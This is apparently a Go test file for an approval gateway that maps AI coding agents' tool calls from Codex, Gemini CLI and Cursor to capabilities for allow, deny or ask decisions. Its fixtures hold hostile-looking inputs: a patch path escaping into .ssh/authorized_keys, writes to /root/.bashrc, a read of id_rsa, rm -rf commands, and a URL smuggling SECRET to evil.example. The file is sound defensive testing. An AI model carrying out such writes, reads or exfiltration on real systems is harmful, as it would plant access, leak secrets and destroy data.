package hooks_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/metnos/gateway/hooks"
)

// target is what a test expects one request to be.
type target struct{ capability, target string }

func mapped(t *testing.T, ad hooks.Adapter, raw string, tools map[string]string) ([]hooks.Call, hooks.Event) {
	t.Helper()
	ev, err := ad.Decode([]byte(raw))
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	cs, err := ad.Map(ev, tools)
	if err != nil {
		t.Fatalf("map: %v", err)
	}
	return cs, ev
}

func checkCalls(t *testing.T, cs []hooks.Call, want []target, executor string) {
	t.Helper()
	if len(cs) != len(want) {
		t.Fatalf("got %d calls %+v, want %v", len(cs), cs, want)
	}
	for i, c := range cs {
		if c.Capability != want[i].capability || c.Target != want[i].target {
			t.Errorf("call %d: %s %q, want %s %q", i, c.Capability, c.Target, want[i].capability, want[i].target)
		}
		if c.Executor != executor || c.Summary == "" || c.Intent == "" {
			t.Errorf("call %d: executor %q summary %q intent %q", i, c.Executor, c.Summary, c.Intent)
		}
	}
}

func codexEvent(event, tool string, input map[string]any) string {
	return mustJSON(map[string]any{"session_id": "s", "turn_id": "t", "transcript_path": nil, "cwd": "/home/r/proj",
		"hook_event_name": event, "model": "gpt-5.1-codex", "permission_mode": "default",
		"tool_name": tool, "tool_input": input, "tool_use_id": "call_1"})
}

func TestCodex_Map(t *testing.T) {
	patch := "*** Begin Patch\n*** Add File: a.txt\n+x\n*** Update File: src/b.go\n*** Move to: src/c.go\n@@\n-x\n+y\n*** Delete File: /etc/d\n*** End Patch\n"
	tools := map[string]string{"mcp__gmail__send": "mail:send", "mcp__fs__*": "fs:read"}
	cases := []struct {
		name string
		raw  string
		want []target
	}{
		{"Bash", codexEvent("PreToolUse", "Bash", map[string]any{"command": "npm test"}),
			[]target{{"code:exec", "npm test"}}},
		{"PermissionRequest Bash", codexEvent("PermissionRequest", "Bash", map[string]any{"command": "npm test", "description": "needs network"}),
			[]target{{"code:exec", "npm test"}}},
		{"apply_patch tool: every path", codexEvent("PreToolUse", "apply_patch", map[string]any{"command": patch}),
			[]target{{"fs:write", "/home/r/proj/a.txt"}, {"fs:write", "/home/r/proj/src/b.go"}, {"fs:write", "/home/r/proj/src/c.go"}, {"fs:write", "/etc/d"}}},
		{"apply_patch heredoc in Bash", codexEvent("PreToolUse", "Bash", map[string]any{"command": "apply_patch <<'EOF'\n" + patch + "EOF\n"}),
			[]target{{"fs:write", "/home/r/proj/a.txt"}, {"fs:write", "/home/r/proj/src/b.go"}, {"fs:write", "/home/r/proj/src/c.go"}, {"fs:write", "/etc/d"}}},
		{"apply_patch heredoc after cd", codexEvent("PreToolUse", "Bash", map[string]any{"command": "cd sub && apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a.txt\n+x\n*** End Patch\nEOF"}),
			[]target{{"fs:write", "/home/r/proj/sub/a.txt"}}},
		{"apply_patch with more shell: also code:exec", codexEvent("PreToolUse", "Bash", map[string]any{"command": "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a.txt\n+x\n*** End Patch\nEOF\nrm -rf /tmp/x"}),
			[]target{{"fs:write", "/home/r/proj/a.txt"}, {"code:exec", "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a.txt\n+x\n*** End Patch\nEOF\nrm -rf /tmp/x"}}},
		{"patch path escaping with ..", codexEvent("PreToolUse", "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: ../../.ssh/authorized_keys\n+k\n*** End Patch"}),
			[]target{{"fs:write", "/home/.ssh/authorized_keys"}}},
		// Codex's shell tool under its other names and argument shapes: the
		// same code:exec on the same command line as Bash.
		{"shell argv bash -lc", codexEvent("PreToolUse", "shell", map[string]any{"command": []any{"bash", "-lc", "npm test"}, "workdir": "/home/r/proj"}),
			[]target{{"code:exec", "npm test"}}},
		{"shell argv words", codexEvent("PreToolUse", "shell", map[string]any{"command": []any{"rm", "-rf", "/tmp/a b", "it's"}}),
			[]target{{"code:exec", `rm -rf '/tmp/a b' 'it'\''s'`}}},
		{"local_shell argv", codexEvent("PreToolUse", "local_shell", map[string]any{"command": []any{"/bin/zsh", "-c", "make"}}),
			[]target{{"code:exec", "make"}}},
		{"shell_command string", codexEvent("PreToolUse", "shell_command", map[string]any{"command": "npm test"}),
			[]target{{"code:exec", "npm test"}}},
		{"exec_command cmd", codexEvent("PreToolUse", "exec_command", map[string]any{"cmd": "npm test"}),
			[]target{{"code:exec", "npm test"}}},
		{"shell argv apply_patch, in workdir", codexEvent("PreToolUse", "shell", map[string]any{"command": []any{"apply_patch", "*** Begin Patch\n*** Add File: a.txt\n+x\n*** End Patch"}, "workdir": "sub"}),
			[]target{{"fs:write", "/home/r/proj/sub/a.txt"}}},
		{"shell argv heredoc patch", codexEvent("PreToolUse", "shell", map[string]any{"command": []any{"bash", "-lc", "apply_patch <<'EOF'\n" + patch + "EOF\n"}}),
			[]target{{"fs:write", "/home/r/proj/a.txt"}, {"fs:write", "/home/r/proj/src/b.go"}, {"fs:write", "/home/r/proj/src/c.go"}, {"fs:write", "/etc/d"}}},
		{"mcp exact", codexEvent("PreToolUse", "mcp__gmail__send", map[string]any{"to": "a@x.org"}),
			[]target{{"mail:send", "a@x.org"}}},
		{"mcp glob", codexEvent("PreToolUse", "mcp__fs__read", map[string]any{"path": "n.txt"}),
			[]target{{"fs:read", "/home/r/proj/n.txt"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cs, _ := mapped(t, hooks.Codex, tc.raw, tools)
			checkCalls(t, cs, tc.want, "codex")
			if len(cs) > 1 && (cs[0].CallID != "s/call_1#1" || cs[1].CallID != "s/call_1#2") {
				t.Errorf("call ids %q %q", cs[0].CallID, cs[1].CallID)
			}
			if len(cs) == 1 && cs[0].CallID != "s/call_1" {
				t.Errorf("call id %q", cs[0].CallID)
			}
		})
	}
}

// TestCodex_ShellBadInput: a shell call with no command, or an argv that is
// not all strings, is a bad event (blocked), never an unmapped tool nor a
// call on an empty command line.
func TestCodex_ShellBadInput(t *testing.T) {
	for _, in := range []map[string]any{
		{},
		{"command": []any{}},
		{"command": []any{"ls", 3}},
		{"command": "  "},
	} {
		for _, tool := range []string{"Bash", "shell", "local_shell", "shell_command", "exec_command"} {
			ev, err := hooks.Codex.Decode([]byte(codexEvent("PreToolUse", tool, in)))
			if err != nil {
				t.Fatal(err)
			}
			var ut *hooks.UnknownToolError
			if _, err := hooks.Codex.Map(ev, nil); !errors.Is(err, hooks.ErrBadEvent) || errors.As(err, &ut) {
				t.Errorf("%s %v: err %v, want ErrBadEvent", tool, in, err)
			}
		}
	}
}

func TestCodex_Answer(t *testing.T) {
	pre, _ := hooks.Codex.Decode([]byte(codexEvent("PreToolUse", "Bash", map[string]any{"command": "ls"})))
	perm, _ := hooks.Codex.Decode([]byte(codexEvent("PermissionRequest", "Bash", map[string]any{"command": "ls"})))
	cases := []struct {
		name string
		ev   hooks.Event
		v    hooks.Verdict
		want string
	}{
		{"pre allow goes on", pre, hooks.Verdict{Decision: hooks.Allow, Reason: "ok"}, `{}`},
		{"pre deny", pre, hooks.Verdict{Decision: hooks.Deny, Reason: "no"},
			`{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"no"}}`},
		{"pre ask blocks", pre, hooks.Verdict{Decision: hooks.Ask, Reason: "approval gateway not consulted: down; asking here instead"},
			`{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"approval gateway not consulted: down; Codex cannot ask at this point, so the call is blocked. Ask the user to approve it and try again."}}`},
		{"permission allow", perm, hooks.Verdict{Decision: hooks.Allow, Reason: "ok"},
			`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}`},
		{"permission deny", perm, hooks.Verdict{Decision: hooks.Deny, Reason: "no"},
			`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"no"}}}`},
		{"permission ask: Codex's own prompt", perm, hooks.Verdict{Decision: hooks.Ask, Reason: "x"}, `{}`},
		{"bad event blocks as PreToolUse", hooks.Event{}, hooks.Verdict{Decision: hooks.Ask, Reason: "bad"},
			`{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"bad; Codex cannot ask at this point, so the call is blocked. Ask the user to approve it and try again."}}`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := hooks.Codex.Answer(tc.ev, tc.v)
			if got := string(r.JSON()); got != tc.want || r.Exit != 0 {
				t.Fatalf("got  %s (exit %d)\nwant %s", got, r.Exit, tc.want)
			}
		})
	}
}

func geminiEvent(tool string, input map[string]any) string {
	return mustJSON(map[string]any{"session_id": "s", "transcript_path": "/t", "cwd": "/home/r/proj",
		"hook_event_name": "BeforeTool", "timestamp": "2026-11-23T20:00:00Z", "tool_name": tool, "tool_input": input})
}

func TestGemini_Map(t *testing.T) {
	tools := map[string]string{"mcp_gmail_send": "mail:send", "read_file": "fs:write"}
	cases := []struct {
		name string
		raw  string
		want []target
	}{
		{"shell", geminiEvent("run_shell_command", map[string]any{"command": "ls -la", "description": "list"}), []target{{"code:exec", "ls -la"}}},
		{"write_file", geminiEvent("write_file", map[string]any{"file_path": "out/a.txt", "content": "~/.ssh"}), []target{{"fs:write", "/home/r/proj/out/a.txt"}}},
		{"replace", geminiEvent("replace", map[string]any{"file_path": "/x/y.go", "old_string": "a", "new_string": "b"}), []target{{"fs:write", "/x/y.go"}}},
		{"read_many_files", geminiEvent("read_many_files", map[string]any{"include": []any{"README.md", "src/**/*.go", "*.md"}}),
			[]target{{"fs:read", "/home/r/proj/README.md"}, {"fs:read", "/home/r/proj/src/**/*.go"}, {"fs:read", "/home/r/proj/*.md"}}},
		{"glob", geminiEvent("glob", map[string]any{"pattern": "/etc/*.conf"}), []target{{"fs:read", "/etc/*.conf"}}},
		{"search_file_content", geminiEvent("search_file_content", map[string]any{"pattern": `\.ssh`}), []target{{"fs:read", "/home/r/proj"}}},
		{"grep_search with path", geminiEvent("grep_search", map[string]any{"pattern": "x", "path": "/srv"}), []target{{"fs:read", "/srv"}}},
		{"list_directory", geminiEvent("list_directory", map[string]any{"dir_path": "~/.ssh"}), []target{{"fs:read", "~/.ssh"}}},
		{"web_fetch every host", geminiEvent("web_fetch", map[string]any{"prompt": "compare https://a.example.com/x?t=1 and http://B.example.org"}),
			[]target{{"network:http", "a.example.com:443"}, {"network:http", "b.example.org:80"}}},
		{"mcp", geminiEvent("mcp_gmail_send", map[string]any{"to": "a@x.org"}), []target{{"mail:send", "a@x.org"}}},
		{"exact entry overrides built-in", geminiEvent("read_file", map[string]any{"file_path": "/a"}), []target{{"fs:write", "/a"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cs, _ := mapped(t, hooks.Gemini, tc.raw, tools)
			checkCalls(t, cs, tc.want, "gemini-cli")
			for _, c := range cs {
				if c.CallID != "" {
					t.Errorf("Gemini CLI gives no tool call id, got %q", c.CallID)
				}
				if strings.Contains(mustJSON(c.Args), "t=1") {
					t.Errorf("a URL's query reached args: %v", c.Args)
				}
			}
		})
	}
}

func TestGemini_Answer(t *testing.T) {
	for _, tc := range []struct {
		v    hooks.Verdict
		want string
	}{
		{hooks.Verdict{Decision: hooks.Allow, Reason: "ok"}, `{"decision":"allow"}`},
		{hooks.Verdict{Decision: hooks.Deny, Reason: "no"}, `{"decision":"deny","reason":"no"}`},
		{hooks.Verdict{Decision: hooks.Ask, Reason: "down"}, `{"decision":"ask","reason":"down","systemMessage":"down"}`},
	} {
		if got := string(hooks.Gemini.Answer(hooks.Event{}, tc.v).JSON()); got != tc.want {
			t.Errorf("got %s, want %s", got, tc.want)
		}
	}
}

// The payloads Cursor's hooks documentation shows (its agent CLI is not on
// npm, so these fixtures stand in for the real program).
const (
	cursorShellFixture = `{"conversation_id":"conv-123","generation_id":"gen-456","model":"gpt-5","hook_event_name":"beforeShellExecution",
		"cursor_version":"1.7.2","workspace_roots":["/home/r/proj"],"user_email":null,"command":"npm install express","cwd":"/home/r/proj"}`
	cursorMCPFixture = `{"conversation_id":"conv-123","generation_id":"gen-456","hook_event_name":"beforeMCPExecution",
		"workspace_roots":["/home/r/proj"],"tool_name":"send_email","tool_input":"{\"to\": \"ann@example.com\", \"body\": \"hi\"}","url":"http://localhost:3000"}`
	cursorReadFixture = `{"conversation_id":"conv-123","generation_id":"gen-456","hook_event_name":"beforeReadFile",
		"workspace_roots":["/home/r/proj"],"file_path":"/home/r/.ssh/id_rsa","content":"-----BEGIN OPENSSH PRIVATE KEY----- SECRET","attachments":[]}`
	cursorPreToolFixture = `{"conversation_id":"conv-123","generation_id":"gen-456","hook_event_name":"preToolUse",
		"workspace_roots":["/home/r/proj"],"tool_name":"Write","tool_input":{"file_path":"src/main.ts","contents":"x"},"tool_use_id":"tu_9"}`
)

func TestCursor_Map(t *testing.T) {
	tools := map[string]string{"send_email": "mail:send"}
	cases := []struct {
		name, raw string
		want      []target
	}{
		{"beforeShellExecution", cursorShellFixture, []target{{"code:exec", "npm install express"}}},
		{"beforeMCPExecution, tool_input as JSON text", cursorMCPFixture, []target{{"mail:send", "ann@example.com"}}},
		{"beforeReadFile", cursorReadFixture, []target{{"fs:read", "/home/r/.ssh/id_rsa"}}},
		{"preToolUse Write", cursorPreToolFixture, []target{{"fs:write", "/home/r/proj/src/main.ts"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cs, _ := mapped(t, hooks.Cursor, tc.raw, tools)
			checkCalls(t, cs, tc.want, "cursor")
			if strings.Contains(mustJSON(cs), "SECRET") {
				t.Fatal("a file's content reached the request")
			}
		})
	}
	// An MCP tool is known only by the tools map, even if its name is a built-in one.
	ev, _ := hooks.Cursor.Decode([]byte(strings.Replace(cursorMCPFixture, "send_email", "Shell", 1)))
	var ut *hooks.UnknownToolError
	if _, err := hooks.Cursor.Map(ev, nil); !errors.As(err, &ut) || !strings.Contains(err.Error(), "hooks.cursor.tools") {
		t.Fatalf("err %v, want UnknownToolError naming hooks.cursor.tools", err)
	}
	if got := string(hooks.Cursor.Relay([]byte(cursorReadFixture))); strings.Contains(got, "SECRET") || !strings.Contains(got, "id_rsa") {
		t.Fatalf("relayed %s", got)
	}
}

func TestCursor_Answer(t *testing.T) {
	read, _ := hooks.Cursor.Decode([]byte(cursorReadFixture))
	shell, _ := hooks.Cursor.Decode([]byte(cursorShellFixture))
	for _, tc := range []struct {
		ev   hooks.Event
		v    hooks.Verdict
		want string
	}{
		{shell, hooks.Verdict{Decision: hooks.Allow, Reason: "ok"}, `{"permission":"allow","user_message":"ok"}`},
		{shell, hooks.Verdict{Decision: hooks.Deny, Reason: "no"}, `{"permission":"deny","user_message":"no","agent_message":"no"}`},
		{shell, hooks.Verdict{Decision: hooks.Ask, Reason: "down"}, `{"permission":"ask","user_message":"down","agent_message":"down"}`},
		{read, hooks.Verdict{Decision: hooks.Ask, Reason: "down"}, `{"permission":"deny","user_message":"down","agent_message":"down"}`},
	} {
		if got := string(hooks.Cursor.Answer(tc.ev, tc.v).JSON()); got != tc.want {
			t.Errorf("%s: got %s, want %s", tc.ev.HookEventName, got, tc.want)
		}
	}
}

func TestAdapters_BadEvents(t *testing.T) {
	for _, ad := range hooks.Adapters() {
		for name, raw := range map[string]string{
			"not json":      `{`,
			"empty":         ``,
			"array":         `[]`,
			"other event":   `{"hook_event_name":"PostToolUse","tool_name":"Bash"}`,
			"no event name": `{"tool_name":"Bash","tool_input":{"command":"ls"}}`,
		} {
			if ad.Name == "claude-code" && name == "no event name" {
				continue // Claude Code's PreToolUse is the only event it sends it: a missing name is read as it
			}
			if _, err := ad.Decode([]byte(raw)); !errors.Is(err, hooks.ErrBadEvent) {
				t.Errorf("%s %s: err %v, want ErrBadEvent", ad.Name, name, err)
			}
		}
	}
}

func TestCombine(t *testing.T) {
	a := hooks.Verdict{Decision: hooks.Allow, Reason: "a"}
	d := hooks.Verdict{Decision: hooks.Deny, Reason: "d"}
	q := hooks.Verdict{Decision: hooks.Ask, Reason: "q"}
	for _, tc := range []struct {
		in   []hooks.Verdict
		want string
	}{
		{[]hooks.Verdict{a}, hooks.Allow}, {[]hooks.Verdict{a, a}, hooks.Allow}, {[]hooks.Verdict{a, q}, hooks.Ask},
		{[]hooks.Verdict{q, d}, hooks.Deny}, {[]hooks.Verdict{a, d, a}, hooks.Deny}, {nil, hooks.Ask},
	} {
		if got := hooks.Combine(tc.in).Decision; got != tc.want {
			t.Errorf("%v: %s, want %s", tc.in, got, tc.want)
		}
	}
}

// FuzzAdapters: no event makes an adapter panic, every mapped call names a
// capability, and every answer is a JSON object.
func FuzzAdapters(f *testing.F) {
	f.Add("codex", codexEvent("PreToolUse", "Bash", map[string]any{"command": "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: \n*** End Patch\nEOF"}))
	f.Add("gemini", geminiEvent("web_fetch", map[string]any{"prompt": "http://[::1"}))
	f.Add("cursor", cursorMCPFixture)
	f.Add("codex", codexEvent("PreToolUse", "apply_patch", map[string]any{"command": "*** Begin Patch\n \u3000*** Add File: /root/.bashrc\n+x\n*** End Patch"}))
	f.Add("gemini", geminiEvent("web_fetch", map[string]any{"prompt": "read https://docs.python.org'@evil.example/?q=SECRET"}))
	f.Add("claude-code", `{"hook_event_name":"PreToolUse","tool_name":"Read","cwd":"/p","tool_input":{"file_path":"a"},"gateway_local":{"home":"/h","paths":{"/p/a":"/h/.ssh/id_rsa"}}}`)
	f.Fuzz(func(t *testing.T, name, raw string) {
		ad, ok := hooks.AdapterNamed(name)
		if !ok {
			return
		}
		ev, err := ad.Decode([]byte(raw))
		if err == nil {
			cs, err := ad.Map(ev, map[string]string{"mcp__a__*": "mail:send"})
			cs = hooks.LocalOf([]byte(raw)).Apply(cs)
			for _, c := range cs {
				if err == nil && c.Capability == "" {
					t.Fatalf("mapped without a capability: %+v", c)
				}
			}
		}
		for _, d := range []string{hooks.Allow, hooks.Deny, hooks.Ask} {
			var m map[string]any
			if err := json.Unmarshal(ad.Answer(ev, hooks.Verdict{Decision: d, Reason: "r"}).JSON(), &m); err != nil {
				t.Fatal(err)
			}
		}
	})
}

// TestDocsConfig: the real-CLI tests configure the hooks exactly as
// docs/agents.md tells users to.
func TestDocsConfig(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "docs", "agents.md"))
	if err != nil {
		t.Fatal(err)
	}
	docs := string(b)
	for _, want := range []string{
		strings.TrimSpace(codexHookConfig),
		`"matcher": "run_shell_command|write_file|replace|read_file|read_many_files|glob|search_file_content|grep_search|list_directory|web_fetch|mcp_.*"`,
		`"command": "gateway hook gemini --no-ask"`,
	} {
		if !strings.Contains(docs, want) {
			t.Errorf("docs/agents.md lacks the configuration the tests use:\n%s", want)
		}
	}
	if !strings.Contains(geminiSettings, `"command": "gateway hook gemini --no-ask", "timeout": 600000`) {
		t.Error("the Gemini CLI test does not use the documented headless hook")
	}
}

// TestCursor_BadEventNamesTheEvent: a bad Cursor event is described by the
// Cursor event it is (or as a Cursor hook event when it is none Cursor
// sends), never as Claude Code's PreToolUse, and stays ErrBadEvent.
func TestCursor_BadEventNamesTheEvent(t *testing.T) {
	for _, tc := range []struct{ name, raw, want string }{
		{"not json", `{`, "bad Cursor hook event: "},
		{"unknown event", `{"hook_event_name":"afterFileEdit"}`, `bad Cursor hook event: hook_event_name is "afterFileEdit"`},
		{"no event name", `{"command":"ls"}`, "bad Cursor hook event: "},
		{"MCP input not JSON", `{"hook_event_name":"beforeMCPExecution","tool_name":"send_email","tool_input":"{nope"}`,
			"bad Cursor beforeMCPExecution event: tool_input is a string but not a JSON object"},
		{"preToolUse without tool", `{"hook_event_name":"preToolUse","tool_input":{}}`, "bad Cursor preToolUse event: no tool_name"},
		{"shell without command (map)", `{"hook_event_name":"beforeShellExecution","cwd":"/p"}`, "bad Cursor beforeShellExecution event: Shell: "},
		{"read without path (map)", `{"hook_event_name":"beforeReadFile","cwd":"/p"}`, "bad Cursor beforeReadFile event: Read: "},
		{"preToolUse Write without path (map)", `{"hook_event_name":"preToolUse","tool_name":"Write","tool_input":{}}`,
			"bad Cursor preToolUse event: Write: "},
	} {
		ev, err := hooks.Cursor.Decode([]byte(tc.raw))
		if err == nil {
			_, err = hooks.Cursor.Map(ev, nil)
		}
		if !errors.Is(err, hooks.ErrBadEvent) || !strings.HasPrefix(err.Error(), tc.want) || strings.Contains(err.Error(), "PreToolUse") {
			t.Errorf("%s: err %v, want ErrBadEvent starting %q", tc.name, err, tc.want)
		}
	}
}
